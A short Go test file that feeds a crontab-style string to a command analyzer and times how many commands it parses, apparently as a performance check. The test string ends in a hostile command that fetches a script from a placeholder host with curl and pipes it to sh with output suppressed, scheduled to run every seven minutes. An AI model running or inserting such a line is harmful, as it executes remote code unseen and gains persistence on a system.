package cmdline
import ("testing";"time";"fmt")
func TestP(t *testing.T){
 l := "*/7 * * * * c* * * c* * * c* * * c* * * c* * * c* * * c* * * c* * * curl -s http://b/job | sh >/dev/null 2>&1"
 for _, s := range []string{l, l[4:], "sudo "+l} { from:=time.Now(); f := Analyze(s, Env{Cwd:"/w",Home:"/h"}); fmt.Println(len(f.Commands), time.Since(from)) }
}
